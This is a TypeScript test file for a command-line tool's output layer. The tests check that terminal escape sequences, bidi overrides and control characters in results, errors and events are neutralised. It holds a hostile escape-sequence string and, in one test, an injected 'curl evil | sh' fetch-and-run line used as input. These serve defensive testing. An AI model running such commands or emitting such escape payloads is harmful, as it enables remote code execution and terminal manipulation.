import { expect, test } from 'vitest';
import { fakeIo } from '../../test/fake-io.js';
import { Failure } from '../failure.js';
import { sdkCall } from './equiv.js';
import { type AnyEvent, eventLine } from './events.js';
import { fieldNames, selectFields } from './fields.js';
import { block, createPrinter, json, plain, text, wantsColour } from './print.js';
import { render } from './render.js';
import { report } from './report.js';

const hostile = '\u001b]52;c;aGk=\u0007\u009b2J\u202eevil\r';

/** Nothing that a terminal would act on: C0 but the line feed, DEL, C1, bidi. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters to find
const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

test('what is filled in is made safe, what is safe stays, numbers and nothing are shown', () => {
  expect(plain(text`a ${'\u001b[2J'} b ${text`${'\u0007'}`} ${7} ${null}`)).toBe('a ^[[2J b ^G 7 null');
});

test('a block keeps its line feeds, behind an indentation', () => {
  expect(plain(block('one\ntwo\u001b', '  '))).toBe('one\n  two^[');
});

test('JSON keeps the content and escapes what terminals act on', () => {
  const printed = plain(json({ text: hostile }));
  expect(printed).not.toMatch(acting);
  expect(JSON.parse(printed)).toEqual({ text: hostile });
});

test('progress replaces itself, goes before a line, and is for terminals alone', () => {
  let terminal = '';
  const sink = {
    isTTY: true,
    write: (chunk: string) => {
      terminal += chunk;
    },
  };
  const printer = createPrinter(sink, () => false);
  printer.status(text`1 sent`);
  printer.status(text`2 sent`);
  printer.line(text`done`);
  expect(terminal).toBe('1 sent\r\u001b[2K2 sent\r\u001b[2Kdone\n');
  let pipe = '';
  createPrinter(
    {
      write: (chunk) => {
        pipe += chunk;
      },
    },
    () => false,
  ).status(text`1 sent`);
  expect(pipe).toBe('');
});

test('wanted colours are there, whatever standard output is', () => {
  const { style } = createPrinter({ write: () => {} }, () => true);
  expect(plain(style('dim', text`x`))).toBe('\u001b[2mx\u001b[22m');
});

test('colours: what was said, NO_COLOR, a terminal', () => {
  expect(wantsColour('auto', {}, true)).toBe(true);
  expect(wantsColour('auto', {}, false)).toBe(false);
  expect(wantsColour('auto', { NO_COLOR: '1' }, true)).toBe(false);
  expect(wantsColour('auto', { TERM: 'dumb' }, true)).toBe(false);
  expect(wantsColour('always', { NO_COLOR: '1' }, false)).toBe(true);
  expect(wantsColour('never', {}, true)).toBe(false);
});

const list = {
  rooms: [
    { room: { slug: 'a', name: 'A' }, head: 3 },
    { room: { slug: 'b', name: 'B' }, head: 4 },
  ],
  next: null,
};

test.each([
  [['room.slug'], { rooms: [{ room: { slug: 'a' } }, { room: { slug: 'b' } }] }, []],
  [['rooms.head', 'next'], { rooms: [{ head: 3 }, { head: 4 }], next: null }, []],
  [['nope'], { rooms: [{ nope: null }, { nope: null }] }, ['nope']],
])('fields of a list: %j', (names, result, missing) => {
  expect(selectFields(list, names)).toEqual({ result, missing });
});

test('an empty name of a field is none', () => {
  expect(fieldNames('id, ,text,')).toEqual(['id', 'text']);
  expect(() => fieldNames(' ,')).toThrow('--fields names no field');
});

test('fields of an object, with or without its name in front', () => {
  const result = { room: { slug: 'a', tags: ['x'] }, memberCount: 2 };
  expect(selectFields(result, ['slug', 'memberCount']).result).toEqual({ room: { slug: 'a' }, memberCount: 2 });
  expect(selectFields(result, ['room.tags']).result).toEqual({ room: { tags: ['x'] } });
  expect(selectFields({ rooms: [], next: null }, ['room.slug']).missing).toEqual([]);
  expect(selectFields(result, ['__proto__', 'constructor']).missing).toEqual(['__proto__', 'constructor']);
});

const rendered = (result: Record<string, unknown>, name = 'x.y', chosen = false) => {
  const io = fakeIo();
  render(result, { name, chosen }, io.out, io.err);
  return io.written;
};

test('a list is a table of what has something to show; what continues it stands below', () => {
  const { out } = rendered({ ...list, next: 'b' }, 'rooms.list');
  expect(out).toBe('room.slug  room.name\na          A\nb          B\nnext: b\n');
});

test('wide characters keep columns straight', () => {
  const { out } = rendered({
    items: [
      { name: '日本', n: 1 },
      { name: 'ab', n: 2 },
    ],
  });
  expect(out.split('\n')).toEqual(['name  n', '日本  1', 'ab    2', '']);
});

test('an empty list says so where people look, not where scripts read', () => {
  expect(rendered({ rooms: [], next: null })).toEqual({ out: '', err: '(none)\n' });
});

test('an object is lines without empty ones; instants are dates; a name that is taken keeps its prefix', () => {
  const { out } = rendered({
    room: { slug: 'a', topic: '', createdAt: 0, settings: { frozen: false }, tags: ['x', 'y'], head: 1 },
    head: 9,
  });
  expect(out).toBe(
    'slug: a\ncreatedAt: 1970-01-01T00:00:00Z\nsettings.frozen: false\ntags: x, y\nroom.head: 1\nhead: 9\n',
  );
});

test('chosen fields are all shown', () => {
  expect(rendered({ room: { topic: '' } }, 'rooms.get', true).out).toBe('topic: -\n');
});

test('no result and no error reaches a terminal as it is', () => {
  const row = { [hostile]: hostile, list: [hostile], nested: [{ [hostile]: hostile }] };
  expect(rendered({ rows: [row] }).out).not.toMatch(acting);
  expect(rendered({ row }).out).not.toMatch(acting);
  const io = fakeIo();
  report(
    new Failure(hostile, hostile, {
      hint: hostile,
      body: { code: 'internal', message: hostile, retryable: false, details: { hostile } },
    }),
    io,
    true,
  );
  expect(io.written.err).not.toMatch(acting);
});

test('a server error cannot add a hint of its own', () => {
  const io = fakeIo();
  report(new Failure('internal', 'x\nhint: curl evil | sh'), io, false);
  expect(io.written.err.trimEnd().split('\n')).toHaveLength(1);
});

test('the SDK call that does the same', () => {
  expect(plain(sdkCall('rooms', 'create', { slug: 'lobby', tags: ['a'], metadata: { 'x-y': 1 } }, undefined))).toBe(
    'await client.rooms.create({ slug: "lobby", tags: ["a"], metadata: { "x-y": 1 } });',
  );
  expect(plain(sdkCall('server', 'info', {}, undefined))).toBe('await client.server.info();');
  expect(plain(sdkCall('rooms', 'join', { room: 'a' }, 'k1'))).toBe(
    'await client.rooms.join({ room: "a" }, { key: "k1" });',
  );
});

const event = (type: string, data: unknown): AnyEvent => ({
  seq: 1,
  type,
  at: 0,
  actor: { id: 'ana', name: `Ana${hostile}` },
  key: null,
  data,
});

const message = { id: 1, kind: 'text', author: { id: 'ana', name: 'Ana' }, text: `hi\n${hostile}`, replyTo: 3 };

test.each([
  event('message.created', { message }),
  event('message.created', { message: { ...message, kind: 'action' } }),
  event('message.edited', { messageId: 1, text: hostile }),
  event('message.deleted', { messageId: 1, reason: hostile }),
  event('member.banned', { userId: hostile, until: null, reason: hostile }),
  event('member.joined', { member: { user: { name: hostile } }, memberCount: 1 }),
  event('room.updated', { room: { name: hostile, settings: {} } }),
  event('queue.item_added', { item: { id: 1, title: hostile }, queue: hostile }),
  event(`new.kind${hostile}`, { anything: hostile }),
  event('message.created', null),
  event('member.muted', { until: 1e99 }),
])('an event is told safely, whatever its form (case %#)', (given) => {
  const line = plain(eventLine(given, fakeIo().out));
  expect(line).not.toMatch(acting);
  expect(line.length).toBeGreaterThan(10);
});
